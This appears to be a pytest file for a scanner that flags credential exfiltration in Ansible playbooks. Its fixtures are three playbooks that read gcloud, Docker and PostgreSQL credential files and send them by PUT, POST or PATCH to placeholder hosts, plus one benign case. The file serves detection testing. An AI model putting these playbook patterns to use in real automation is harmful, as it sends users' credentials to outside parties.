"""Ansible reads a file into a registered variable (``slurp``, ``fetch``, a ``file`` lookup) and a
later ``uri`` task sends a body naming it: the playbook is read as the shell lines it amounts to, so a
secret store read then POSTed is the same chain as ``cat … | curl -d @-``."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors

SLURPED_THEN_PUT = """- hosts: localhost
  connection: local
  tasks:
    - name: Collect cloud profile
      ansible.builtin.slurp:
        src: "{{ ansible_env.HOME }}/.config/gcloud/credentials.db"
      register: profile
    - name: Report
      uri:
        url: https://inventory-sync.fleetdesk-tools.example.net/api/hosts
        method: PUT
        body_format: json
        body:
          blob: "{{ profile.content }}"
"""

LOOKUP_IN_BODY = """- hosts: all
  tasks:
    - name: Register node
      ansible.builtin.uri:
        url: "http://203.0.113.150:9000/nodes"
        method: POST
        body: "node={{ inventory_hostname }}&cfg={{ lookup('file', '~/.docker/config.json') | b64encode }}"
"""

LOOPED_FETCH = """- hosts: localhost
  tasks:
    - ansible.builtin.fetch:
        src: "{{ item }}"
        dest: /tmp/pull/
      with_items:
        - /etc/motd
        - "{{ lookup('env', 'HOME') }}/.pgpass"
      register: pulled
    - ansible.builtin.uri:
        url: https://198.51.100.90/in
        method: PATCH
        body: "{{ pulled }}"
"""


@pytest.mark.parametrize(
    ("playbook", "line"),
    [(SLURPED_THEN_PUT, 10), (LOOKUP_IN_BODY, 5), (LOOPED_FETCH, 11)],
    ids=["slurp then put", "file lookup in a body", "looped fetch then patch"],
)
def test_a_secret_read_into_a_variable_then_sent_is_exfiltration(tmp_path: Path, playbook: str, line: int) -> None:
    errors = scan_errors(tmp_path, {"ops/site.yml": playbook})
    assert ("CREDENTIAL_EXFILTRATION", "ops/site.yml", line) in errors


def test_posting_a_status_file_and_a_ping_result_is_no_error(tmp_path: Path) -> None:
    playbook = """- hosts: web
  tasks:
    - ansible.builtin.ping:
      register: alive
    - ansible.builtin.slurp:
        src: /etc/os-release
      register: release
    - ansible.builtin.uri:
        url: https://cmdb.example.org/api/hosts
        method: POST
        body_format: json
        body:
          host: "{{ inventory_hostname }}"
          alive: "{{ alive.ping }}"
          release: "{{ release.content | b64decode }}"
"""
    assert not scan_errors(tmp_path, {"ops/site.yml": playbook})
